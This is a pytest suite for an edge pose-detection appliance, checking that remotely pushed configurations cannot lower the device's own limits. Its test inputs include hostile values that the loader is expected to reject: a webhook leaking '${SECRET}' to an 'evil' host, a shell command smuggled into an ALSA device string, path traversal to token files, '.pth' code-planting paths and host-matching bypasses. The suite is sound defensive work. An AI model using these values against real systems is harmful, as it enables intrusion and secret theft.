"""What a device's own file allows, and what a push can't lower."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from edgepose.appliance import threads
from edgepose.config import last_broker
from edgepose.config.limits import DEFAULTS, commands_of, reserved
from edgepose.config.loader import Config, loads
from edgepose.config.pushed import accept_pushed
from edgepose.definitions import library
from edgepose.errors import ConfigError
from edgepose.modelstore import speeds
from edgepose.outputs.web import token
from edgepose.runtimes.edgetpu import PAIR
from edgepose.system.paths import state_folder

TEXT = """\
version: 1
name: lobby
source: {type: synthetic}
outputs:
  log: {type: jsonl, path: events.jsonl}
  bus: {type: mqtt, host: broker, remote: true}
"""


@pytest.fixture
def file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Return where the configuration is; the state folder is beside it."""
    monkeypatch.setenv("STATE_DIRECTORY", str(tmp_path / "state"))
    folder = tmp_path / "etc"
    (folder / "templates").mkdir(parents=True)
    path = folder / "lobby.yaml"
    path.write_text(TEXT)
    return path


def pushed(file: Path, text: str, own: str = TEXT, **environ: str) -> Config:
    """Return the configuration of a pushed text. Raises ConfigError."""
    now = loads(own, file, (), environ)
    return accept_pushed(text, now, lambda text: loads(text, file, (), environ))[1]


@pytest.mark.parametrize(
    "path",
    [
        "lobby.yaml", "templates/x.jsonl", "other.yaml", "sub/Zz.YML/x.jsonl",
        "../state/last-good/config.json", "../state/outbox/x", "../state/web-token",
        "../state/pushes/x.json", "link", ".",
    ],
)  # fmt: skip
@pytest.mark.parametrize("kind", ["jsonl", "recording", "video"])
def test_no_output_writes_to_what_is_edgeposes_own(file: Path, path: str, kind: str):
    """Configuration, definitions, state and token, also through a link."""
    (file.parent / "link").symlink_to(file)
    with pytest.raises(ConfigError, match=r"outputs\.bad"):
        loads(f"{TEXT}  bad: {{type: {kind}, path: {path}}}\n", file)


def test_a_link_to_a_folder_is_followed(file: Path):
    """A folder elsewhere that leads to the templates is refused as well."""
    (file.parent / "logs").symlink_to(file.parent / "templates")
    with pytest.raises(ConfigError, match="own files"):
        loads(TEXT.replace("events.jsonl", "logs/events.jsonl"), file)


@pytest.mark.parametrize(
    ("limits", "line", "said"),
    [
        ("folders: [/srv]", "x: {type: memory}", "limits.folders"),
        ("hosts: [10.0.0.*]", "x: {type: webhook, url: 'http://evil.example/'}", "limits.hosts"),
        ("max_on: 5", "x: {type: gpio, line: 4, chip: fake, when: person}", "max_on"),
        ("max_on: 5", "x: {type: gpio, line: 4, chip: fake, when: person, max_on: 6}", "max_on"),
    ],
)
def test_limits_hold_for_the_file_itself(file: Path, limits: str, line: str, said: str):
    """A mistake with its line, as any other."""
    with pytest.raises(ConfigError, match=said):
        loads(f"limits: {{{limits}}}\n{TEXT}  {line}\n", file)


@pytest.mark.parametrize(
    ("pattern", "host", "is_allowed"),
    [
        ("10.0.0.*", "10.0.0.17", True),
        ("10.0.0.*", "10.0.0.17.evil.example", False),
        ("10.0.0.*", "10.0.0.evil", False),
        ("10.0.0.*", "10.0.0.17%2eevil.example", False),
        ("cam-*.local", "cam-2.local", True),
        ("cam-*.local", "cam-2.evil.local", False),
        ("*.example.com", "a.b.example.com", True),
        ("*.example.com", "evil.com%2f.example.com", False),
        ("*.example.com", "aexample.com", False),
        ("hooks.example.com", "hooksxexample.com", False),
        ("*", "anything.at.all", True),
    ],
)
def test_a_pattern_admits_the_hosts_that_it_reads_as(
    file: Path, pattern: str, host: str, is_allowed: bool
):
    """Whoever may push must not find a name on the internet that begins like an address here."""
    text = (
        f"limits: {{hosts: ['{pattern}']}}\n{TEXT}  x: {{type: webhook, url: 'http://{host}/'}}\n"
    )
    if is_allowed:
        assert loads(text, file).outputs
    else:
        with pytest.raises(ConfigError, match=r"limits\.hosts|host"):
            loads(text, file)


@pytest.mark.parametrize(
    ("own", "text", "said"),
    [
        ("frames: none\n", "frames: full\n", "frames"),
        ("frames: skeleton\n", "frames: full\n", "frames"),
        ("commands: [detect]\n", "commands: [detect, save]\n", "save"),
        ("commands: false\n", "commands: [detect]\n", "does not take detect"),
        ("", "commands: [config]\n", "config"),
        ("limits: {max_on: 5}\n", "limits: {max_on: 50}\n", "limits"),
        ("limits: {max_on: 5}\n", "limits: {}\n", "limits"),
        ("", "model: {library: /tmp/evil.so}\n", "library"),
    ],
)
def test_a_push_can_not_lower_what_the_file_sets(file: Path, own: str, text: str, said: str):
    """It is refused with the place."""
    with pytest.raises(ConfigError, match=said):
        pushed(file, text + TEXT, own + TEXT)


def test_what_a_push_leaves_out_stays(file: Path):
    """One text for many devices: each keeps its own limits, commands and privacy."""
    own = "frames: skeleton\ncommands: [detect]\nlimits: {max_on: 5}\n" + TEXT
    config = pushed(file, TEXT, own)
    assert config.frames == "skeleton"
    assert config.commands == ("detect",)
    assert config.limits.max_on == 5


def test_a_pushed_output_writes_below_the_devices_own_folders_only(file: Path):
    """What the file writes already may stay where it is."""
    with pytest.raises(ConfigError, match="state folder"):
        pushed(file, TEXT.replace("events.jsonl", "/tmp/x.jsonl"))
    own = TEXT.replace("events.jsonl", "/tmp/x.jsonl")
    assert pushed(file, own, own).outputs["log"].options.writes() == (Path("/tmp/x.jsonl"),)


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        (".local/lib/python3.11/site-packages/x.pth", "begins with a dot"),
        (".asoundrc", "begins with a dot"),
        ("clips/.x/a.jsonl", "begins with a dot"),
        ("numpy.py", "a program's file"),
        ("clips/x.PTH", "a program's file"),
    ],
)
def test_a_pushed_output_writes_nothing_that_a_program_reads(file: Path, path: str, reason: str):
    """The state folder is the home of the service's user, and where it works."""
    with pytest.raises(ConfigError, match=reason):
        pushed(file, TEXT.replace("events.jsonl", path))
    own = TEXT.replace("events.jsonl", path)
    assert pushed(file, own, own).outputs["log"].options.writes() == (file.parent / path,)


@pytest.mark.parametrize(
    "line",
    [
        "h: {type: webhook, url: 'http://evil/${SECRET}'}",
        "l: {type: jsonl, path: '${SECRET}'}",
        "m: {type: mqtt, host: b, client_id: '${SECRET}'}",
        "m: {type: mqtt, host: b, topic_prefix: 'a$${x}${SECRET}'}",
        "s: {type: hdmi, text: {token: '${SECRET}'}}\nwatch: {}",
        "s: {type: memory}\nwatch: {up: {template: x, title: {password: '${SECRET}'}}}",
    ],
)
def test_a_pushed_variable_is_for_secrets_only(file: Path, line: str):
    """Else a push could send any of them to anybody; and the answer has no value of one."""
    with pytest.raises(ConfigError, match="passwords, tokens and secrets") as told:
        pushed(file, f"{TEXT}  {line}\n", SECRET="hunter2x")
    assert "hunter2x" not in str(told.value)


def test_a_variable_that_stands_in_the_file_already_may_stay(file: Path):
    """Here the camera's address; as a password it may be anywhere."""
    own = TEXT.replace("{type: synthetic}", "{type: stream, url: 'rtsp://a:${PASS}@cam/x'}")
    more = "  m: {type: mqtt, host: b, user: u, password: '${PASS}'}\n"
    assert pushed(file, own + more, own, PASS="hunter2x").source.type == "stream"


def test_a_push_names_only_exercises_that_the_device_has(file: Path):
    """A push carries none; once the file is in the device's folder, it is taken."""
    text = f"{TEXT}watch: {{a: {{exercise: shrug}}}}\n"
    with pytest.raises(ConfigError, match="does not carry it: put its file into `exercises`"):
        pushed(file, text)
    own = (
        library.find("exercise", "squat").read_text().replace("exercise: squat", "exercise: shrug")
    )
    (file.parent / "exercises").mkdir()
    (file.parent / "exercises" / "shrug.yaml").write_text(own)
    assert pushed(file, text).exercises["a"].name == "shrug"


def test_an_answer_to_a_push_quotes_no_other_file(file: Path):
    """A push can name any file as a template; its lines stay at home."""
    secret = file.parent / "environment"
    secret.write_text("root:hunter2x\n")
    text = f"{TEXT}watch: {{a: {{template: {secret}}}}}\nlanguage: {secret}\n"
    with pytest.raises(ConfigError, match="check-config on the device") as told:
        pushed(file, text)
    assert "hunter2x" not in str(told.value)


def test_commands_have_defaults_by_the_kind_of_output():
    """The broker's end with the run; the page saves; nobody pushes configurations unasked."""
    assert commands_of(None, "mqtt") == set(DEFAULTS["mqtt"])
    assert not {"save", "restart", "config"} & commands_of(None, "mqtt")
    assert "save" in commands_of(None, "web")
    assert "config" not in commands_of(None, "web")
    assert commands_of(False, "web") == frozenset()
    assert commands_of(("config",), "web") == {"config"}


@pytest.mark.parametrize(
    ("interlock", "is_allowed"), [(5, True), (2, True), (5.1, False), (0, False)]
)
def test_the_interlock_of_a_pin_has_a_ceiling(file: Path, interlock: float, is_allowed: bool):
    """Also against 0, which is for ever; a push can't lift it."""
    own = f"{TEXT}limits: {{interlock: 5}}\nwatch: {{up: {{template: arms_up}}}}\n"
    pin = f"  led: {{type: gpio, line: 17, when: up, interlock: {interlock:g}}}\nwatch:"
    text = own.replace("limits:", "  # no\nlimits:").replace("watch:", "x", 0)
    text = own.replace("limits: {interlock: 5}\nwatch:", pin)
    if is_allowed:
        assert pushed(file, text, own).limits.interlock == 5
    else:
        with pytest.raises(ConfigError, match="`interlock` of at most 5, which is `limits"):
            pushed(file, text, own)


def test_a_stream_stays_with_the_hosts_that_are_allowed(file: Path):
    """No redirect leads elsewhere, whatever the configuration says of it."""
    text = TEXT.replace(
        "{type: synthetic}", "{type: stream, url: 'http://10.0.0.7/live', redirects: true}"
    )
    assert loads(text, file).source.options.model_dump()["redirects"] is True
    limited = loads(f'{text}limits: {{hosts: ["10.0.0.*"]}}\n', file)
    assert limited.source.options.model_dump()["redirects"] is False


def test_a_file_can_switch_all_commands_off(file: Path):
    """`commands: false` is none at all; `true` is no list of commands."""
    assert not commands_of(loads(f"commands: false\n{TEXT}", file).commands, "mqtt")
    with pytest.raises(ConfigError, match="config or false, found true"):
        loads(f"commands: true\n{TEXT}", file)


@pytest.mark.parametrize(
    "line",
    [
        "watch: {x: {classifier: /dev/zero, class: a}}",
        "watch: {x: {classifier: pipe, class: a}}",
        "watch: {x: {classifier: endless, class: a}}",
        "model: {path: /dev/zero}",
    ],
)
def test_a_push_names_no_device_and_no_pipe(file: Path, line: str):
    """/dev/zero has no end and filled the memory; a pipe that nobody writes to blocks for ever."""
    os.mkfifo(file.parent / "pipe")
    (file.parent / "endless").mkdir()
    (file.parent / "endless" / "a.csv").symlink_to("/dev/zero")
    with pytest.raises(ConfigError, match=r"found a device, a pipe or a|names can.t be used"):
        pushed(file, f"{TEXT}{line}\n")


@pytest.mark.parametrize(
    "line",
    [
        "x: {type: webhook, url: 'http://a/', timeout: 1.0e+308}",
        "x: {type: mqtt, host: b, stats_interval: 1.0e+308}",
        "x: {type: sound, device: \"file:'|id>x',raw\"}",
    ],
)
def test_a_push_ends_no_process_and_runs_no_command(file: Path, line: str):
    """No clock counts so many seconds; ALSA's plug-in for files runs what stands after the bar."""
    with pytest.raises(ConfigError, match=r"outputs\.x\."):
        pushed(file, f"{TEXT}  {line}\n")


@pytest.mark.parametrize("name", ["%99999Y.mp4", "edgepose.y%Pl", "%n.mp4", "x%"])
def test_the_name_of_a_clip_is_what_it_looks_like(file: Path, name: str):
    """One was too long to be a name and ended the process; one was `edgepose.yaml` before noon."""
    with pytest.raises(ConfigError, match=r"found %.* in "):
        pushed(file, f"{TEXT}  clips: {{type: video, around: 5, path: '{name}'}}\n")


@pytest.mark.parametrize(
    "name",
    [threads._FILE, speeds._FILE, token.FILE, last_broker.FILE, PAIR, "history/x", "profile/x"],
)
def test_no_output_writes_to_what_edgepose_keeps(name: str, tmp_path: Path):
    """Whoever may push could spoil it."""
    assert "own files" in reserved(state_folder() / name, tmp_path / "a.yaml")
